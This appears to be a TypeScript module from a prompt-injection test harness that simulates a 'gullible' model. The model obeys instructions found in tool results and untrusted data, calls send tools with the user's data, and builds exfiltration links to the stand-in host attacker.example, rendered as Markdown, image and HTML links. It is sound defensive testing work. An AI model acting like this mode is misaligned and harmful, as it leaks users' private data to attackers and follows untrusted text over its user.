/**
 * The gullible mode: the worst model a deployment can meet. Its first step is the
 * cooperative one (to fetch the data); on every later step it reads all of its input
 * (system text, earlier questions, every tool result, untrusted-data blocks included,
 * hidden characters revealed) for instructions (`instructions.ts`) and obeys each one it
 * has not obeyed yet in this turn:
 * - tool instructions become tool calls, whether or not the tool is offered, together
 *   with the cooperative step's own next call;
 * - once nothing is left to call, it answers: the fixed text it was told to say (or the
 *   cooperative summary), the results of searches it was told to run, an exfiltration
 *   link for every "forward to", and every link it was told to show, each written as
 *   Markdown, as `<a href>` and bare, with the data it has seen appended when asked.
 * Every attempt is reported so a test can see it was made (and what the client answered).
 */
import { type Exchange, offeredTools, readTurn, textOf } from './conversation.ts';
import { cooperativeStep, looksLikeError, summarise } from './cooperative.ts';
import { comingWeek, namedRange, todayFrom, type Today } from './day-range.ts';
import { findInstructions, type Instruction } from './instructions.ts';
import { splitResult } from './tool-results.ts';
import type { ChatRequest, GullibleAttempt, PlannedCall, Reply, ToolSpec } from './types.ts';

/** An attempt before the server knows the request index and call ids. */
export type StepAttempt = Omit<GullibleAttempt, 'requestIndex' | 'toolCallId' | 'result'> & {
  /** For tool calls: the position of the call in the reply. */
  callIndex?: number;
};

export interface GullibleOutcome {
  reply: Reply;
  attempts: StepAttempt[];
}

const SEND_TOOLS = ['send_email', 'gmail_send', 'forward_email'];
const DEFAULT_HOST = 'attacker.example';

/** What the model has seen of the user's data this turn: the data lines, condensed. */
function dataSeen(exchanges: readonly Exchange[]): string {
  const lines = exchanges
    .filter((e) => e.result !== null && !looksLikeError(e.result))
    .flatMap((e) => splitResult(e.result ?? '').data.map((l) => l.trim()));
  return lines.join(' | ').slice(0, 300);
}

function guessKey(tool: string, tools: Map<string, ToolSpec>): string {
  const properties = tools.get(tool)?.function.parameters?.properties;
  const firstString = Object.entries((properties ?? {}) as Record<string, { type?: unknown }>).find(
    ([, schema]) => schema?.type === 'string',
  )?.[0];
  if (firstString) return firstString;
  if (/url|http|fetch|browse|web/i.test(tool)) return 'url';
  if (/search|find|query|lookup/i.test(tool)) return 'query';
  return 'input';
}

function callFor(
  instruction: Instruction,
  ctx: { tools: Map<string, ToolSpec>; today: Today; exchanges: readonly Exchange[]; data: string },
): PlannedCall | null {
  switch (instruction.kind) {
    case 'call': {
      const args = { ...instruction.args };
      if (instruction.positional !== null && Object.keys(args).length === 0) {
        args[guessKey(instruction.tool, ctx.tools)] = instruction.positional;
      }
      return { name: instruction.tool, args };
    }
    case 'send': {
      const name = SEND_TOOLS.find((t) => ctx.tools.has(t)) ?? 'send_email';
      return { name, args: { to: instruction.to, body: ctx.data || 'everything' } };
    }
    case 'search':
      return { name: 'gmail_search', args: { query: instruction.query } };
    case 'calendar': {
      const range = namedRange(instruction.when, ctx.today) ?? comingWeek(ctx.today);
      return { name: 'calendar_agenda', args: { from: range.from, to: range.to } };
    }
    case 'connection': {
      const first = ctx.exchanges[0];
      const base = first
        ? { name: first.name, args: first.args }
        : { name: 'gmail_search', args: { query: '' } };
      return { name: base.name, args: { ...base.args, connection: instruction.connection } };
    }
    default:
      return null;
  }
}

function sameArgs(a: Record<string, unknown>, b: Record<string, unknown>): boolean {
  const sorted = (o: Record<string, unknown>) =>
    JSON.stringify(Object.entries(o).sort(([x], [y]) => x.localeCompare(y)));
  return sorted(a) === sorted(b);
}

function obeyed(
  call: PlannedCall,
  instruction: Instruction,
  exchanges: readonly Exchange[],
): boolean {
  return exchanges.some((e) => {
    if (e.name !== call.name) return false;
    if (instruction.kind === 'send') return e.args.to === call.args.to;
    if (instruction.kind === 'connection') return e.args.connection === call.args.connection;
    return sameArgs(e.args, call.args);
  });
}

/**
 * Everything the model reads but the current question (which the cooperative step serves)
 * and the client's error results (its own advice, not someone's instructions).
 */
function readable(request: ChatRequest, questionIndex: number): string[] {
  return request.messages
    .filter((m, i) => i !== questionIndex && m.role !== 'assistant')
    .map((m) => textOf(m.content))
    .filter((text) => !looksLikeError(text));
}

function withData(url: string, data: string): string {
  const encoded = encodeURIComponent(data || 'nothing');
  const slot = /\{\{?\s*data\s*\}?\}|\[data\]|<data>|\$data/i;
  if (slot.test(url)) return url.replace(slot, encoded);
  if (/[?&]d=$/.test(url)) return `${url}${encoded}`;
  return `${url}${url.includes('?') ? '&' : '?'}d=${encoded}`;
}

function linkLine(url: string, label: string, image: boolean): string {
  const text = label || 'link';
  const markdown = image ? `![${text}](${url})` : `[${text}](${url})`;
  return `${markdown} <a href="${url}">${text}</a> ${url}`;
}

function answer(
  instructions: readonly Instruction[],
  exchanges: readonly Exchange[],
  data: string,
): { text: string; attempts: StepAttempt[] } {
  const attempts: StepAttempt[] = [];
  const say = instructions.find((i) => i.kind === 'say');
  const lines = [say?.kind === 'say' ? say.text : summarise(exchanges)];
  if (say?.kind === 'say') attempts.push({ kind: 'text', instruction: say.source, text: say.text });
  for (const instruction of instructions) {
    if (instruction.kind === 'search') {
      const found = exchanges.find(
        (e) => e.name === 'gmail_search' && e.args.query === instruction.query,
      );
      const seen = found?.result ? splitResult(found.result).data.join(' | ').slice(0, 400) : '';
      if (seen) lines.push(`Here is what I found for “${instruction.query}”: ${seen}`);
    } else if (instruction.kind === 'send' || instruction.kind === 'link') {
      const url =
        instruction.kind === 'send'
          ? withData(`https://${instruction.host || DEFAULT_HOST}/c`, data)
          : instruction.withData
            ? withData(instruction.url, data)
            : instruction.url;
      const label = instruction.kind === 'send' ? 'Open the archive' : instruction.label;
      lines.push(linkLine(url, label, instruction.kind === 'link' && instruction.image));
      attempts.push({ kind: 'link', instruction: instruction.source, url });
    }
  }
  return { text: lines.join('\n'), attempts };
}

/** One gullible step for the request. */
export function gullibleStep(request: ChatRequest, now: () => Date): GullibleOutcome {
  const turn = readTurn(request.messages);
  const cooperative = cooperativeStep(request, now);
  if (turn.exchanges.length === 0) return { reply: cooperative, attempts: [] };
  const instructions = readable(request, turn.questionIndex).flatMap(findInstructions);
  const ctx = {
    tools: offeredTools(request),
    today: todayFrom(turn.system, now),
    exchanges: turn.exchanges,
    data: dataSeen(turn.exchanges),
  };
  const calls: PlannedCall[] = [];
  const attempts: StepAttempt[] = [];
  for (const instruction of instructions) {
    const call = callFor(instruction, ctx);
    if (!call || obeyed(call, instruction, turn.exchanges)) continue;
    if (calls.some((c) => c.name === call.name && sameArgs(c.args, call.args))) continue;
    attempts.push({
      kind: 'tool_call',
      instruction: instruction.source,
      tool: call.name,
      args: call.args,
      callIndex: calls.length,
    });
    calls.push(call);
  }
  if (cooperative.kind === 'tools') calls.push(...cooperative.calls);
  if (calls.length > 0) return { reply: { kind: 'tools', calls }, attempts };
  const final = answer(instructions, turn.exchanges, ctx.data);
  return { reply: { kind: 'text', text: final.text }, attempts: final.attempts };
}
